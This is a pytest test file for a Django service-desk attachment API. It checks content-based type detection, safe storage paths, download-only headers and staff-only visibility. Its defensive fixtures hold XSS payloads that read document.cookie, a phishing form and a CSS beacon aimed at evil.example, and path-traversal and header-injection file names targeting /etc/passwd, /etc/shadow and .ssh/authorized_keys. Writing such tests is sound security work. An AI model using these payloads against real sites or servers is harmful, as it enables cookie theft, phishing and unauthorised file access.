"""Attachments: accepted by what they contain (never by their name), stored under a random
name inside the tenant's and ticket's folder, and served only as a download that no browser
renders. Every refused upload leaves no row, no event, no new version and no file."""

from __future__ import annotations

import gzip
import hashlib
import io
import re
import struct
import zipfile
import zlib
from pathlib import Path
from typing import Any

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile

from servicedesk.errors import InvalidInput
from servicedesk.tenancy import tenant_context
from tests.tickets.conftest import INCIDENT
from tickets.models import Attachment, Ticket, TicketEvent
from tickets.services.attachments import add_attachment
from tickets.services.lifecycle import transition_ticket

ALICE = "alice@acme.example"
AGENT = "agent@northwind.example"


def _png() -> bytes:
    """A valid 1×1 transparent PNG."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    header = struct.pack(">IIBBBBB", 1, 1, 8, 6, 0, 0, 0)
    pixels = zlib.compress(b"\x00\x00\x00\x00\x00")
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def _zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("router.log", "08:10:01 BGP neighbour down\n")
    return buffer.getvalue()


PNG = _png()
PDF = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
TEXT = "2026-11-20 08:10:01 Störung: BGP neighbour 10.0.0.1 down\n".encode()
PCAP = b"\xd4\xc3\xb2\xa1\x02\x00\x04\x00" + b"\x00" * 8 + b"\xff\xff\x00\x00\x01\x00\x00\x00"
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><circle r="5"/></svg>'

STORED_NAME = re.compile(r"^tenants/(?P<tenant>\d+)/tickets/(?P<ticket>\d+)/(?P<name>[0-9a-f]{32})$")


def _storage_root() -> Path:
    return Path(settings.STORAGES["default"]["OPTIONS"]["location"])


def _stored_files() -> list[Path]:
    return sorted(p for p in _storage_root().rglob("*") if p.is_file())


def _open(client) -> dict[str, Any]:
    response = client.post("/api/v1/tickets/", INCIDENT, format="json")
    assert response.status_code == 201, response.json()
    return response.json()


@pytest.fixture
def ticket(desk) -> Ticket:
    """Alice's incident on the Frankfurt MPLS service, with no attachment yet."""
    number = _open(desk.api(ALICE))["number"]
    with tenant_context(desk.northwind):
        return Ticket.objects.get(number=number)


def _url(ticket: Ticket, attachment_id: int | None = None) -> str:
    base = f"/api/v1/tickets/{ticket.number}/attachments/"
    return base if attachment_id is None else f"{base}{attachment_id}/"


def _upload(client, ticket: Ticket, name: str, content: bytes, **extra: str):
    return client.post(_url(ticket), {"file": SimpleUploadedFile(name, content), **extra}, format="multipart")


def _raw_upload(client, ticket: Ticket, filename_parameter: str, content: bytes):
    """A multipart upload built by hand, so the file name reaches the server exactly as
    written (the test client would reduce it to a base name before sending)."""
    boundary = "desk-test-boundary-7MA4YWxkTrZu0gW"
    body = (
        (
            f"--{boundary}\r\n"
            f'Content-Disposition: form-data; name="file"; {filename_parameter}\r\n'
            "Content-Type: application/octet-stream\r\n\r\n"
        ).encode()
        + content
        + f"\r\n--{boundary}--\r\n".encode()
    )
    return client.post(_url(ticket), data=body, content_type=f"multipart/form-data; boundary={boundary}")


def _state(demo, ticket: Ticket) -> dict[str, Any]:
    """Everything a refused upload must leave as it was."""
    with tenant_context(demo.northwind):
        fresh = Ticket.objects.get(pk=ticket.pk)
        return {
            "version": fresh.version,
            "status": fresh.status,
            "updated_at": fresh.updated_at,
            "attachments": Attachment.objects.count(),
            "events": TicketEvent.objects.filter(ticket=fresh).count(),
            "files": _stored_files(),
        }


def _download(client, ticket: Ticket, attachment_id: int):
    response = client.get(_url(ticket, attachment_id))
    # Reading the stream to its end lets the test client close the file.
    content = b"".join(response.streaming_content) if response.status_code == 200 else b""
    return response, content


def _assert_stored_safely(demo, ticket: Ticket, attachment_id: int, content: bytes, given_name: str) -> None:
    """The file lies under tenants/<tenant>/tickets/<ticket>/ of the storage, under a random
    name, never the given one, and nothing else was written anywhere."""
    with tenant_context(demo.northwind):
        attachment = Attachment.objects.get(pk=attachment_id)
    match = STORED_NAME.match(attachment.file.name)
    assert match, attachment.file.name
    assert (int(match["tenant"]), int(match["ticket"])) == (demo.northwind.pk, ticket.pk)
    assert match["name"] not in given_name
    root = _storage_root().resolve()
    on_disk = (root / attachment.file.name).resolve()
    assert on_disk.is_relative_to(root / "tenants" / str(demo.northwind.pk) / "tickets" / str(ticket.pk))
    assert on_disk.read_bytes() == content
    assert _stored_files() == [root / attachment.file.name]


# --- What is accepted, and how it is served ------------------------------------------------


@pytest.mark.parametrize(
    ("name", "content", "content_type", "served_as"),
    [
        ("screenshot.png", PNG, "image/png", "image/png"),
        ("trace.pdf", PDF, "application/pdf", "application/pdf"),
        ("router.log", TEXT, "text/plain", "text/plain; charset=utf-8"),
        ("capture.pcap", PCAP, "application/vnd.tcpdump.pcap", "application/vnd.tcpdump.pcap"),
        ("logs.zip", _zip(), "application/zip", "application/zip"),
        ("logs.gz", gzip.compress(TEXT), "application/gzip", "application/gzip"),
    ],
)
def test_an_accepted_file_is_stored_and_served_only_as_a_download(desk, ticket, name, content, content_type, served_as):
    # Given Alice and her ticket
    client = desk.api(ALICE)

    # When she uploads the file
    response = _upload(client, ticket, name, content)

    # Then it is stored with the type detected from its content
    assert response.status_code == 201, response.json()
    body = response.json()
    attachment_id = body["id"]
    assert body == {
        "id": attachment_id,
        "name": name,
        "content_type": content_type,
        "size": len(content),
        "sha256": hashlib.sha256(content).hexdigest(),
        "internal": False,
        "uploaded_by": {"id": desk.user(ALICE).pk, "name": "Alice Schneider"},
        "created_at": body["created_at"],
        "download_url": f"/api/v1/tickets/{ticket.number}/attachments/{attachment_id}/",
    }
    _assert_stored_safely(desk, ticket, attachment_id, content, name)
    assert [a["id"] for a in client.get(_url(ticket)).json()["results"]] == [attachment_id]

    # And it is served as a download no browser renders or sniffs
    download, served = _download(client, ticket, attachment_id)
    assert download.status_code == 200
    assert served == content
    assert download["Content-Type"] == served_as
    assert download["Content-Disposition"] == f'attachment; filename="{name}"'
    assert download["X-Content-Type-Options"] == "nosniff"
    assert download["Content-Security-Policy"] == "default-src 'none'; sandbox"
    assert download["Cache-Control"] == "private, no-store"


def test_an_upload_is_a_new_version_and_a_timeline_event(desk, ticket):
    client = desk.api(ALICE)

    response = _upload(client, ticket, "router.log", TEXT)

    assert response.status_code == 201
    detail = client.get(f"/api/v1/tickets/{ticket.number}/").json()
    assert detail["version"] == ticket.version + 1
    events = client.get(f"/api/v1/tickets/{ticket.number}/timeline/").json()["results"]
    assert [(e["kind"], e["to_value"], e["actor"]["name"]) for e in events][-1] == (
        "attachment_added",
        "router.log",
        "Alice Schneider",
    )


def test_a_non_ascii_file_name_is_offered_encoded(desk, ticket):
    client = desk.api(ALICE)

    attachment_id = _upload(client, ticket, "Störung Frankfurt.log", TEXT).json()["id"]
    download, _content = _download(client, ticket, attachment_id)

    assert download["Content-Disposition"] == "attachment; filename*=utf-8''St%C3%B6rung%20Frankfurt.log"


@pytest.mark.parametrize(
    ("name", "offered_as"),
    [
        ("notes.html", "notes.html.txt"),
        ("page.svg", "page.svg.txt"),
        ("run.sh", "run.sh.txt"),
        ("config", "config.txt"),
        ("router.LOG", "router.LOG"),
        ("export.csv", "export.csv"),
    ],
)
def test_a_text_file_is_offered_with_a_name_that_opens_as_text(desk, ticket, name, offered_as):
    client = desk.api(ALICE)

    response = _upload(client, ticket, name, TEXT)

    assert response.status_code == 201
    assert (response.json()["name"], response.json()["content_type"]) == (offered_as, "text/plain")
    download, _content = _download(client, ticket, response.json()["id"])
    assert download["Content-Disposition"] == f'attachment; filename="{offered_as}"'


def test_the_type_comes_from_the_content_not_the_name(desk, ticket):
    client = desk.api(ALICE)

    response = _upload(client, ticket, "report.pdf", PNG)

    assert response.status_code == 201
    assert (response.json()["name"], response.json()["content_type"]) == ("report.pdf", "image/png")
    download, _content = _download(client, ticket, response.json()["id"])
    assert download["Content-Type"] == "image/png"


# --- Abuse ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("photo.png", HTML),
        ("page.html", b"<html><body onload=alert(1)>hello</body></html>"),
        ("notes.txt", b"   \n<script>alert(1)</script>\n"),
        ("frame.log", b"<iframe src=https://evil.example/></iframe>"),
        ("logo.svg", SVG),
        ("logo.png", b'<?xml version="1.0"?>\n' + SVG),
        ("data.xml", b'<?xml version="1.0" encoding="UTF-8"?><note>hi</note>'),
        ("tool", ELF),
        ("tool.png", ELF),
        ("setup.pdf", EXE),
        ("latin1.log", "Störung am Standort".encode("latin-1")),
        ("binary.log", b"\x01\x02\x00\x03\x04"),
        ("empty.log", b""),
    ],
)
def test_a_file_that_a_browser_would_run_or_that_is_not_a_document_is_refused(desk, ticket, name, content):
    # Given the ticket as it is
    before = _state(desk, ticket)

    # When Alice uploads the file
    response = _upload(desk.api(ALICE), ticket, name, content)

    # Then 400 naming the file, and nothing stored
    assert response.status_code == 400
    assert set(response.json()) == {"file"}
    assert _state(desk, ticket) == before
    assert _stored_files() == []


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("photo.png", b"<img src=x onerror=alert(document.cookie)>"),
        ("invoice.html", b'<a href="javascript:alert(1)">Open your invoice</a>'),
        ("status.htm", b'<div onmouseover="alert(1)" style="position:fixed;inset:0">Status</div>'),
        ("styles.log", b"<style>body{background:url(https://evil.example/t)}</style><p>hi</p>"),
        ("comment.html", b"<!-- report --><img src=x onerror=alert(1)>"),
        ("title.html", b"<title>Sign in</title><form action=https://evil.example><input name=p></form>"),
    ],
)
def test_an_html_fragment_is_refused_like_a_whole_page(desk, ticket, name, content):
    before = _state(desk, ticket)

    response = _upload(desk.api(ALICE), ticket, name, content)

    assert response.status_code == 400
    assert set(response.json()) == {"file"}
    assert _state(desk, ticket) == before
    assert _stored_files() == []


def test_a_file_over_the_size_limit_is_refused_and_nothing_is_stored(desk, ticket, settings):
    # Given a limit of 1 KiB
    settings.ATTACHMENT_MAX_BYTES = 1024
    before = _state(desk, ticket)
    client = desk.api(ALICE)

    # When Alice uploads 1 KiB + 1 byte
    response = _upload(client, ticket, "big.log", b"x" * 1024 + b"\n")

    # Then 400 naming the file; no row, no event, no file
    assert response.status_code == 400
    assert set(response.json()) == {"file"}
    assert _state(desk, ticket) == before
    assert _stored_files() == []


def test_a_file_of_exactly_the_size_limit_is_accepted(desk, ticket, settings):
    settings.ATTACHMENT_MAX_BYTES = 1024

    response = _upload(desk.api(ALICE), ticket, "full.log", b"x" * 1023 + b"\n")

    assert response.status_code == 201
    assert response.json()["size"] == 1024


@pytest.mark.parametrize(
    ("filename_parameter", "stored_name"),
    [
        ('filename="../../etc/passwd"', "passwd.txt"),
        ('filename="..\\..\\boot.ini"', "boot.ini"),
        ('filename="/etc/shadow"', "shadow.txt"),
        ('filename="C:\\Windows\\win.ini"', "win.ini"),
        ("filename*=UTF-8''..%2F..%2F.ssh%2Fauthorized_keys", "authorized_keys.txt"),
        ("filename*=UTF-8''evil%00name.log", "evilname.log"),
        ("filename*=UTF-8''two%0Alines%0D.log", "twolines.log"),
        ("filename*=UTF-8''%E2%80%AEgol.exe", "gol.exe.txt"),
    ],
)
def test_a_hostile_file_name_over_http_is_stored_as_a_safe_base_name(desk, ticket, filename_parameter, stored_name):
    client = desk.api(ALICE)

    response = _raw_upload(client, ticket, filename_parameter, TEXT)

    assert response.status_code == 201, response.json()
    assert response.json()["name"] == stored_name
    _assert_stored_safely(desk, ticket, response.json()["id"], TEXT, filename_parameter)
    download, _content = _download(client, ticket, response.json()["id"])
    assert download["Content-Disposition"] == f'attachment; filename="{stored_name}"'
    assert not (Path(settings.STORAGES["default"]["OPTIONS"]["location"]).parent / "etc").exists()


class _AsGiven(SimpleUploadedFile):
    """An upload whose name is exactly as given, as any parser might hand it over (Django's
    own UploadedFile would already reduce it to a POSIX base name)."""

    def __init__(self, name: str, content: bytes) -> None:
        super().__init__("placeholder", content)
        self._name = name


@pytest.mark.parametrize(
    ("given", "stored_name"),
    [
        ("../../etc/passwd", "passwd.txt"),
        ("..\\..\\boot.ini", "boot.ini"),
        ("/etc/shadow", "shadow.txt"),
        ("C:\\Windows\\win.ini", "win.ini"),
        ("evil\x00name.log", "evilname.log"),
        ("two\nlines\r.log", "twolines.log"),
        ("tab\there.log", "tabhere.log"),
        ("\u202egol.exe", "gol.exe.txt"),
        ("．．／．．／etc／passwd", "passwd.txt"),  # full-width dots and slashes
        ('x"; filename="evil.html', "x__ filename__evil.html.txt"),
        ("..", "attachment.txt"),
        ("", "attachment.txt"),
        ("a" * 300 + ".log", "a" * 150 + ".log"),
    ],
)
def test_a_hostile_file_name_is_reduced_to_a_safe_base_name_by_the_service(desk, ticket, given, stored_name):
    with tenant_context(desk.northwind):
        attachment = add_attachment(ticket=ticket, actor=desk.user(ALICE), upload=_AsGiven(given, TEXT))

    assert attachment.name == stored_name
    assert not set(attachment.name) & {"/", "\\", "\x00", "\n", "\r", "\t", '"'}
    _assert_stored_safely(desk, ticket, attachment.pk, TEXT, given)


# --- Who may attach what, and when ---------------------------------------------------------


def test_a_customer_cannot_upload_a_staff_only_file(desk, ticket):
    before = _state(desk, ticket)

    response = _upload(desk.api(ALICE), ticket, "router.log", TEXT, internal="true")

    assert response.status_code == 400
    assert set(response.json()) == {"internal"}
    assert _state(desk, ticket) == before
    assert _stored_files() == []


def test_customers_do_not_see_staff_only_files(desk, ticket):
    # Given a staff-only file and a public one on Alice's ticket
    agent, alice = desk.api(AGENT), desk.api(ALICE)
    internal = _upload(agent, ticket, "carrier-trace.log", TEXT, internal="true")
    public = _upload(agent, ticket, "for-the-customer.log", TEXT)
    assert (internal.status_code, internal.json()["internal"]) == (201, True)

    # When Alice lists and downloads
    listed = alice.get(_url(ticket)).json()["results"]
    download, _content = _download(alice, ticket, internal.json()["id"])
    missing, _nothing = _download(alice, ticket, 999999)

    # Then she sees only the public file; the staff-only one is a 404 like a missing one
    assert [a["name"] for a in listed] == ["for-the-customer.log"]
    assert download.status_code == 404
    assert download.json() == missing.json()
    timeline = alice.get(f"/api/v1/tickets/{ticket.number}/timeline/").json()["results"]
    assert [e["to_value"] for e in timeline if e["kind"] == "attachment_added"] == ["for-the-customer.log"]
    # while the desk sees and downloads both
    assert [a["name"] for a in agent.get(_url(ticket)).json()["results"]] == [
        "carrier-trace.log",
        "for-the-customer.log",
    ]
    staff_download, served = _download(agent, ticket, internal.json()["id"])
    assert (staff_download.status_code, served) == (200, TEXT)
    assert public.status_code == 201


@pytest.mark.parametrize("flag", ["true", "True", "1", "on", "yes"])
def test_the_desk_marks_a_file_staff_only(desk, ticket, flag):
    response = _upload(desk.api(AGENT), ticket, "carrier-trace.log", TEXT, internal=flag)

    assert response.status_code == 201
    assert response.json()["internal"] is True
    assert desk.api(ALICE).get(_url(ticket)).json()["results"] == []


@pytest.mark.parametrize(("flag", "expected"), [("t", 201), ("y", 201), ("staff-only", 400)])
def test_an_unclear_staff_only_flag_never_publishes_the_file(desk, ticket, flag, expected):
    # Given an agent marks a file staff-only with a value the API's BooleanField reads as true,
    # or with a value it cannot read
    response = _upload(desk.api(AGENT), ticket, "carrier-trace.log", TEXT, internal=flag)

    # Then the file is staff-only, or refused; the customer never sees it
    assert response.status_code == expected
    if expected == 201:
        assert response.json()["internal"] is True
    else:
        assert set(response.json()) == {"internal"}
        assert _stored_files() == []
    assert desk.api(ALICE).get(_url(ticket)).json()["results"] == []


def _close(demo, ticket: Ticket) -> None:
    """The agent acknowledges and resolves; Alice confirms and closes."""
    with tenant_context(demo.northwind):
        agent, alice = demo.user(AGENT), demo.user(ALICE)
        transition_ticket(ticket=ticket, actor=agent, action="acknowledge")
        transition_ticket(ticket=ticket, actor=agent, action="resolve", reason="The carrier replaced the line card.")
        transition_ticket(ticket=ticket, actor=alice, action="close")


def _cancel(demo, ticket: Ticket) -> None:
    with tenant_context(demo.northwind):
        transition_ticket(ticket=ticket, actor=demo.user(ALICE), action="cancel", reason="Fixed itself.")


@pytest.mark.parametrize(("end", "status"), [(_close, "closed"), (_cancel, "cancelled")])
def test_a_customer_cannot_attach_to_a_closed_or_cancelled_ticket(desk, ticket, end, status):
    # Given a closed (or cancelled) ticket
    end(desk, ticket)
    before = _state(desk, ticket)
    assert before["status"] == status

    # When Alice uploads a valid file
    response = _upload(desk.api(ALICE), ticket, "late.log", TEXT)

    # Then 409, and nothing stored
    assert response.status_code == 409
    assert response.json()["code"] == "ticket_closed"
    assert _state(desk, ticket) == before
    assert _stored_files() == []


def test_the_service_refuses_a_staff_only_file_from_a_customer(desk, ticket):
    with tenant_context(desk.northwind), pytest.raises(InvalidInput) as refused:
        add_attachment(ticket=ticket, actor=desk.user(ALICE), upload=_AsGiven("x.log", TEXT), internal=True)

    assert set(refused.value.errors) == {"internal"}
    assert _stored_files() == []
